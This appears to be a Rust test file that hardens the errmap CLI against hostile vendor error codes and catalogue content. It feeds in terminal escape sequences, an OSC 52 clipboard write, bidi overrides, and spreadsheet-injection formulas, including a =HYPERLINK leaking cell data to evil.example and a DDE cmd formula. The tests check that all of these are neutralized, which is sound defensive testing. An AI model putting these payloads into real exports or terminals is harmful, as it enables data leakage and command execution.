//! The repros of the hardening issue, each against the real binary: what exposure
//! `none` withholds, untrusted codes and text cleaned, bounded reads, write failures,
//! exact numbers, deep bodies. The enumeration matrix itself is `tests/enumeration.rs`;
//! the gateway's headers, deadline and resets are in `tests/tower.rs`.

mod common;

use common::{errmap, run};
use serde_json::Value;

/// `errmap normalize ARGS` with `body` on standard input.
fn normalize(args: &[&str], body: &str) -> common::Run {
    run(errmap().arg("normalize").args(args).write_stdin(body.to_string()))
}

/// Whether `text` holds a character a terminal acts on or that changes how text reads.
fn raw_controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
        })
        .collect()
}

// --- Account enumeration at `none` -----------------------------------------------------

#[test]
fn at_none_the_detection_names_neither_the_code_nor_the_precise_kind() {
    let wilddog = r#"{"code":22011,"message":"x"}"#;
    for format in ["text", "json"] {
        let shown = normalize(&["--expose", "none", "--format", format], wilddog);
        assert_eq!(shown.code, 0, "{}", shown.stderr);
        for hidden in ["22011", "only in", "user_not_found", "wilddog"] {
            assert!(!shown.stdout.contains(hidden), "{format}: {hidden} in\n{}", shown.stdout);
        }
        // The same body at `all` shows them: the check above can fail.
        let all = normalize(&["--expose", "all", "--format", format], wilddog);
        assert!(all.stdout.contains("22011") && all.stdout.contains("user_not_found"), "{}", all.stdout);
    }
    let keycloak = r#"{"error":"invalid_grant","error_description":"User not found"}"#;
    let shown = normalize(&["--expose", "none", "--format", "json", "--vendor", "keycloak"], keycloak);
    let json: Value = serde_json::from_str(&shown.stdout).expect("a JSON record");
    assert_eq!(json["kind"], "invalid_credentials");
    assert_eq!((&json["detection"], &json["detected_by"], &json["code"]), (&Value::Null, &Value::Null, &Value::Null));
    assert!(!shown.stdout.contains("user_not_found"), "{}", shown.stdout);
}

#[test]
fn at_none_a_generic_oauth_body_names_the_same_vendor_for_either_condition() {
    let bodies = [
        r#"{"error":"invalid_grant","error_description":"User not found"}"#,
        r#"{"error":"invalid_grant","error_description":"Invalid user credentials"}"#,
    ];
    for format in ["json", "text", "problem"] {
        let [first, second] = bodies.map(|body| normalize(&["--expose", "none", "--format", format], body));
        assert_eq!(first.code, 0, "{}", first.stderr);
        assert_eq!((first.stdout, first.stderr), (second.stdout, second.stderr), "{format}");
    }
    let [first, second] = bodies.map(|body| normalize(&["--expose", "none", "--jsonl"], body));
    assert_eq!((first.stdout, first.stderr), (second.stdout, second.stderr), "--jsonl");
}

// --- Untrusted text on every surface ---------------------------------------------------

/// A code with a C1 CSI, an OSC 52 clipboard write, a bidi override and a zero-width
/// space, as JSON text.
const HOSTILE_CODE: &str = r#"X\u009b31m\u001b]52;c;ZXZpbA==\u0007\u202eY\u200b"#;

#[test]
fn vendor_codes_are_cleaned_in_every_output() {
    let body = format!(r#"{{"code":"{HOSTILE_CODE}","message":"x"}}"#);
    for format in ["text", "json", "problem"] {
        let shown = normalize(&["--expose", "all", "--vendor", "wilddog", "--format", format], &body);
        assert_eq!(shown.code, 0, "{}", shown.stderr);
        assert_eq!(raw_controls(&shown.stdout), [], "{format}: {:?}", shown.stdout);
        assert_eq!(raw_controls(&shown.stderr), [], "{format}: {:?}", shown.stderr);
        assert!(!shown.stdout.contains("ZXZpbA"), "{format}: the OSC 52 payload came through: {}", shown.stdout);
    }
    let text = normalize(&["--expose", "all", "--vendor", "wilddog"], &body);
    assert!(text.stdout.contains("X<U+202E>Y<U+200B>"), "the invisible characters are shown escaped:\n{}", text.stdout);
    let record = format!(r#"{{"body":{body},"vendor":"wilddog"}}"#);
    let shown = normalize(&["--expose", "all", "--jsonl"], &record);
    assert_eq!(raw_controls(&shown.stdout), [], "{:?}", shown.stdout);
    let json: Value = serde_json::from_str(&shown.stdout).expect("a JSON record");
    assert_eq!(json["code"], "X<U+202E>Y<U+200B>");
}

#[test]
fn a_hostile_code_in_an_error_message_is_cleaned_on_standard_error() {
    let shown = run(errmap().args(["explain", "wilddog:X\u{9b}31m\u{1b}]52;c;ZXZpbA==\u{7}\u{202e}Y"]));
    assert_ne!(shown.code, 0);
    assert_eq!(raw_controls(&shown.stderr), [], "{:?}", shown.stderr);
    assert_eq!(raw_controls(&shown.stdout), [], "{:?}", shown.stdout);
}

/// A user catalogue whose code and fields carry bidi overrides and C1 controls.
const SPOOFING_CATALOGUE: &str = r#"id = "spoof"
name = "Spoof\u009b31m gateway"
language = "en"

[[code]]
code = "ad\u202enimda"
message = "Reversed."
kind = "bad_password"
match = "exact"

[[body]]
name = "spoof error"
code = "/code"
message = "/message"
present = ["/spoof"]
"#;

#[test]
fn a_user_catalogue_whose_code_hides_a_bidi_control_is_refused_with_it_shown_escaped() {
    let folder = tempdir("spoof");
    let file = folder.join("spoof.toml");
    std::fs::write(&file, SPOOFING_CATALOGUE).expect("a temporary file");
    let file = file.to_str().expect("a UTF-8 path");
    for args in [
        vec!["--catalog", file, "codes", "spoof"],
        vec!["--catalog", file, "vendors"],
        vec!["--catalog", file, "table", "spoof", "wilddog"],
        vec!["--catalog", file, "explain", "spoof:ad\u{202e}nimda"],
        vec!["check", file],
    ] {
        let shown = run(errmap().args(&args));
        assert_eq!(shown.code, 2, "{args:?}: {}", shown.stdout);
        assert_eq!(raw_controls(&shown.stdout), [], "{args:?}: {:?}", shown.stdout);
        assert_eq!(raw_controls(&shown.stderr), [], "{args:?}: {:?}", shown.stderr);
        let said = format!("{}{}", shown.stdout, shown.stderr);
        assert!(said.contains(&format!("{file}:6:8: field `code` contains the invisible character U+202E")), "{said}");
        assert!(said.contains(&format!("{file}:2:8: field `name` contains control characters")), "{said}");
    }
    let _ = std::fs::remove_dir_all(&folder);
}

// --- Bounded reads ---------------------------------------------------------------------

#[test]
fn a_jsonl_record_whose_body_is_json_is_held_to_the_body_limit() {
    let message = "x".repeat(5000);
    let record = format!(r#"{{"body":{{"code":22011,"message":"{message}"}}}}"#);
    let shown = normalize(&["--jsonl", "--max-body-bytes", "1000"], &format!("{record}\n{record}\n"));
    assert_eq!(shown.code, 0, "{}", shown.stderr);
    let lines: Vec<Value> = shown.stdout.lines().map(|l| serde_json::from_str(l).expect("a JSON line")).collect();
    assert_eq!(lines.len(), 2);
    for line in &lines {
        let error = line["error"].as_str().unwrap_or_else(|| panic!("an error record, not {line}"));
        assert!(error.contains("over the limit of 1000"), "{error}");
    }
    // Under the limit, the same record is normalized.
    let shown = normalize(&["--jsonl", "--max-body-bytes", "10000"], &record);
    let json: Value = serde_json::from_str(&shown.stdout).expect("a JSON line");
    assert_eq!(json["kind"], "user_not_found");
}

/// A fresh, empty folder under the system's temporary folder.
fn tempdir(name: &str) -> std::path::PathBuf {
    let folder = std::env::temp_dir().join(format!("errmap-hardening-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&folder);
    std::fs::create_dir_all(&folder).expect("a temporary folder");
    folder
}

#[cfg(unix)]
#[test]
fn catalogue_files_that_are_not_regular_or_too_large_are_refused_at_once() {
    let folder = tempdir("catalogues");
    std::os::unix::fs::symlink("/dev/zero", folder.join("zero.toml")).expect("a symbolic link");
    let fifo = folder.join("fifo.toml");
    let made = std::process::Command::new("mkfifo").arg(&fifo).status().is_ok_and(|s| s.success());
    let large = folder.join("large.toml");
    std::fs::File::create(&large).and_then(|f| f.set_len(17 * 1024 * 1024)).expect("a sparse file");
    let mut entries = vec![("zero.toml", "not a regular file"), ("large.toml", "larger than")];
    if made {
        entries.push(("fifo.toml", "not a regular file"));
    }
    for (name, why) in entries {
        let path = folder.join(name);
        let path = path.to_str().expect("a UTF-8 path");
        let started = std::time::Instant::now();
        for args in [vec!["check", path], vec!["--catalog", path, "vendors"]] {
            let shown = run(errmap().args(&args).timeout(std::time::Duration::from_secs(20)));
            assert_ne!(shown.code, 0, "{args:?}: {}", shown.stdout);
            let said = format!("{}{}", shown.stdout, shown.stderr);
            assert!(said.contains(why), "{args:?}: {said}");
        }
        assert!(started.elapsed() < std::time::Duration::from_secs(10), "{name} took {:?}", started.elapsed());
    }
    // A whole folder of them is refused too, rather than read.
    let shown = run(errmap().args(["--catalog", folder.to_str().expect("a UTF-8 path"), "vendors"]));
    assert_ne!(shown.code, 0);
    let _ = std::fs::remove_dir_all(&folder);
}

// --- Also ------------------------------------------------------------------------------

#[cfg(target_os = "linux")]
#[test]
fn a_failed_write_says_it_could_not_write() {
    use std::io::Write as _;
    for args in [&["normalize"][..], &["normalize", "--jsonl"]] {
        let full = std::fs::OpenOptions::new().write(true).open("/dev/full").expect("/dev/full");
        let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("errmap"))
            .args(args)
            .env_clear()
            .stdin(std::process::Stdio::piped())
            .stdout(full)
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("the binary runs");
        let mut stdin = child.stdin.take().expect("a piped standard input");
        stdin.write_all(br#"{"code":22011,"message":"x"}"#).expect("the binary reads its input");
        drop(stdin);
        let output = child.wait_with_output().expect("the binary ends");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_ne!(output.status.code(), Some(0), "{args:?}");
        assert!(stderr.contains("cannot write standard output"), "{args:?}: {stderr}");
        assert!(!stderr.contains("cannot read"), "{args:?}: {stderr}");
    }
}

#[test]
fn numbers_an_f64_cannot_hold_exactly_stay_text() {
    let body = |n: &str| {
        format!(
            r#"{{"error_code":"LOGIN.0002","error_msg":"Invalid account name or password. Remaining attempts: {n}"}}"#
        )
    };
    let params = |n: &str| {
        let shown = normalize(&["--format", "json"], &body(n));
        let json: Value = serde_json::from_str(&shown.stdout).expect("a JSON record");
        json["params"]["remaining"].clone()
    };
    assert_eq!(params("3"), serde_json::json!(3));
    assert_eq!(params("9007199254740992"), serde_json::json!(9_007_199_254_740_992_u64));
    assert_eq!(params("9007199254740993"), serde_json::json!("9007199254740993"));
    assert_eq!(params("123456789012345678901234567890"), serde_json::json!("123456789012345678901234567890"));
}

#[test]
fn a_body_nested_past_the_depth_limit_keeps_the_code_at_its_top() {
    let deep = format!(r#"{{"code":22011,"message":"x","extra":{}{}}}"#, "[".repeat(1000), "]".repeat(1000));
    let shown = normalize(&["--format", "json"], &deep);
    assert_eq!(shown.code, 0, "{}", shown.stderr);
    let json: Value = serde_json::from_str(&shown.stdout).expect("a JSON record");
    assert_eq!(
        (&json["vendor"], &json["code"], &json["kind"]),
        (&"wilddog".into(), &"22011".into(), &"user_not_found".into())
    );
}

// --- Spreadsheet formulas --------------------------------------------------------------

/// A user catalogue whose codes, symbols and messages a spreadsheet would run as
/// formulas, and the code `-1` that is only a number.
const FORMULA_CATALOGUE: &str = r#"id = "formulas"
name = "Formulas"
language = "en"

[[code]]
code = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
symbol = "@SUM(A1)"
message = "+cmd|' /C calc'!A0"
kind = "user_not_found"
match = "exact"

[[code]]
code = "-1"
message = "  =1+1"
kind = "bad_password"
match = "exact"
"#;

/// The fields of RFC 4180 CSV text, row by row, as a spreadsheet reads them.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut field, mut quoted, mut chars) = (Vec::new(), String::new(), false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut field)),
            '\r' if !quoted => {}
            '\n' if !quoted => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            c => field.push(c),
        }
    }
    rows
}

fn formula_start(cell: &str) -> bool {
    cell.starts_with(['\t', '\r']) || cell.trim_start().starts_with(['=', '+', '-', '@'])
}

#[test]
fn table_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text() {
    let folder = tempdir("formulas");
    let file = folder.join("formulas.toml");
    std::fs::write(&file, FORMULA_CATALOGUE).expect("a temporary file");
    let file = file.to_str().expect("a UTF-8 path");
    let hyperlink = r#"=HYPERLINK("https://evil.example/?leak="&A1,"click")"#;
    let mut cells = Vec::new();
    for (from, to) in [("formulas", "wilddog"), ("wilddog", "formulas")] {
        let shown = run(errmap().args(["--catalog", file, "table", from, to, "--format", "csv"]));
        assert_eq!(shown.code, 0, "{}", shown.stderr);
        let rows = csv_rows(&shown.stdout);
        assert!(rows.len() > 1, "{}", shown.stdout);
        cells.extend(rows.into_iter().flatten());
    }
    let formulas: Vec<&String> = cells.iter().filter(|c| formula_start(c)).collect();
    assert_eq!(formulas, Vec::<&String>::new(), "cells a spreadsheet runs");
    for expected in [format!("'{hyperlink}"), "'@SUM(A1)".into(), "'+cmd|' /C calc'!A0".into(), "'-1".into()] {
        assert!(cells.contains(&expected), "no cell {expected:?} in {cells:?}");
    }
    assert!(cells.contains(&"'  =1+1".to_string()), "spaces before the formula: {cells:?}");

    for (from, to) in [("formulas", "wilddog"), ("wilddog", "formulas")] {
        let shown = run(errmap().args(["--catalog", file, "table", from, to, "--format", "sssom"]));
        assert_eq!(shown.code, 0, "{}", shown.stderr);
        let rows: Vec<Vec<&str>> =
            shown.stdout.lines().filter(|l| !l.starts_with('#')).map(|l| l.split('\t').collect()).collect();
        assert!(rows.iter().all(|r| r.len() == 10), "{}", shown.stdout);
        for cell in rows.iter().flatten() {
            // A quoted cell is read without its quotes, as by a spreadsheet.
            let read = cell.strip_prefix('"').and_then(|c| c.strip_suffix('"')).map(|c| c.replace("\"\"", "\""));
            let read = read.as_deref().unwrap_or(cell);
            assert!(!formula_start(read), "{from} → {to}: {cell:?} in\n{}", shown.stdout);
        }
        let labels: Vec<&str> = rows.iter().flat_map(|r| [r[1], r[4]]).collect();
        assert!(labels.contains(&"\"'+cmd|' /C calc'!A0\""), "{labels:?}");
    }
    // Cells that do not start so are written as before.
    let plain = run(errmap().args(["table", "wilddog", "authing", "--format", "csv"]));
    assert!(!plain.stdout.contains(",\"'"), "{}", plain.stdout);
    let _ = std::fs::remove_dir_all(&folder);
}

// --- check and --catalogue agree ---------------------------------------------------------

/// A catalogue with `head` for its first lines and one valid code.
fn catalogue_with(head: &str) -> String {
    format!(
        "{head}\nname = \"Mine\"\nlanguage = \"en\"\n\n[[code]]\ncode = \"E1\"\nmessage = \"x\"\nkind = \"user_not_found\"\nmatch = \"exact\"\n"
    )
}

/// A catalogue whose codes hide bidi, zero-width, BOM and control characters, and
/// whose other fields carry control characters.
const HIDDEN_CHARACTERS: &str = r#"id = "hidden"
name = "Hidden\u009b31m"
language = "en"

[[code]]
code = "ad\u202enimda"
symbol = "sym\u200b"
message = "x"
description = "two\nlines are fine, \u0007 is not"
kind = "bad_password"
match = "close"
reason = "because\u001b[31m"

[[code]]
code = "\ufeffE2"
message = "y"
kind = "bad_password"
match = "exact"

[[code]]
code = "E\u0000"
message = "z"
kind = "bad_password"
match = "exact"

[[code]]
code = "E\u2066x\u2069"
message = "w"
kind = "bad_password"
match = "exact"

[[code]]
code = "E\u0085"
message = "v"
kind = "bad_password"
match = "exact"

[[setting]]
name = "a setting"
merges = ["E1"]
note = "note \u0085 here"

[[code]]
code = "E1"
message = "u"
kind = "bad_password"
match = "exact"
"#;

/// A problem `errmap check` should report: line, column and part of the sentence.
type Expected = (usize, usize, &'static str);

#[test]
fn check_refuses_what_the_catalogue_flag_refuses_with_every_problem_at_its_place() {
    let folder = tempdir("check-agrees");
    let write = |name: &str, text: &str| {
        let path = folder.join(name);
        std::fs::write(&path, text).expect("a temporary file");
        path.to_str().expect("a UTF-8 path").to_string()
    };
    let cases: Vec<(String, Vec<Expected>)> = vec![
        (write("builtin-id.toml", &catalogue_with("id = \"wilddog\"")), vec![(1, 6, "add `overrides = true`")]),
        (
            write("builtin-alias.toml", &catalogue_with("id = \"mine\"\naliases = [\"fine\", \"authing\"]")),
            vec![(2, 20, "the alias 'authing' is a name of the built-in catalogue 'authing'")],
        ),
        (
            write(
                "overrides-alias.toml",
                &catalogue_with("id = \"wilddog\"\noverrides = true\naliases = [\"authing\"]"),
            ),
            vec![(3, 12, "the alias 'authing'")],
        ),
        (
            write("hidden.toml", HIDDEN_CHARACTERS),
            vec![
                (2, 8, "field `name` contains control characters"),
                (6, 8, "field `code` contains the invisible character U+202E"),
                (7, 10, "field `symbol` contains the invisible character U+200B"),
                (9, 15, "field `description` contains control characters"),
                (12, 10, "field `reason` contains control characters"),
                (15, 8, "field `code` contains the invisible character U+FEFF"),
                (21, 8, "field `code` contains control characters"),
                (27, 8, "field `code` contains the invisible character U+2066"),
                (33, 8, "field `code` contains control characters"),
                (41, 8, "field `note` contains control characters"),
            ],
        ),
        (
            // A clash and the file's own problems, all at once.
            write("both.toml", &catalogue_with("id = \"wilddog\"").replace("user_not_found", "user_not_fund")),
            vec![(1, 6, "add `overrides = true`"), (8, 8, "unknown kind 'user_not_fund'")],
        ),
    ];
    for (path, expected) in &cases {
        let shown = run(errmap().args(["check", path]));
        assert_eq!(shown.code, 2, "{path}: {}", shown.stdout);
        let problems: Vec<&str> = shown.stdout.lines().filter(|l| l.starts_with(&format!("{path}:"))).collect();
        assert_eq!(problems.len(), expected.len(), "{path}: every problem, no more:\n{}", shown.stdout);
        for (line, column, message) in expected {
            let at = format!("{path}:{line}:{column}: ");
            let found = problems.iter().find(|l| l.starts_with(&at));
            assert!(found.is_some_and(|l| l.contains(message)), "{at}{message}:\n{}", shown.stdout);
        }
        let loaded = run(errmap().args(["--catalog", path, "vendors"]));
        assert_eq!(loaded.code, 2, "--catalog loads what check refuses: {path}");
        assert!(loaded.stderr.contains(expected[0].2), "{path}: {}", loaded.stderr);
    }
    // The same id with `overrides = true` loads, and check says so without asking for it.
    let overrides = write("overrides.toml", &catalogue_with("id = \"wilddog\"\noverrides = true"));
    let shown = run(errmap().args(["check", &overrides]));
    assert_eq!(shown.code, 0, "{}", shown.stdout);
    assert!(shown.stdout.contains("replaces the built-in catalogue 'wilddog'"), "{}", shown.stdout);
    assert!(!shown.stdout.contains("needs `overrides") && !shown.stdout.contains("add `overrides"), "{}", shown.stdout);
    assert_eq!(run(errmap().args(["--catalog", &overrides, "vendors"])).code, 0);
    // Two files of one id: the second is refused by both, pointing at its id.
    let first = write("a.toml", &catalogue_with("id = \"mine\""));
    let second = write("b.toml", &catalogue_with("id = \"mine\""));
    let shown = run(errmap().args(["check", &first, &second]));
    assert_eq!(shown.code, 2, "{}", shown.stdout);
    assert!(shown.stdout.contains(&format!("{second}:1:6: the name 'mine' is taken")), "{}", shown.stdout);
    let loaded = run(errmap().args(["--catalog", &first, "--catalog", &second, "vendors"]));
    assert_eq!(loaded.code, 2, "{}", loaded.stdout);
    let _ = std::fs::remove_dir_all(&folder);
}
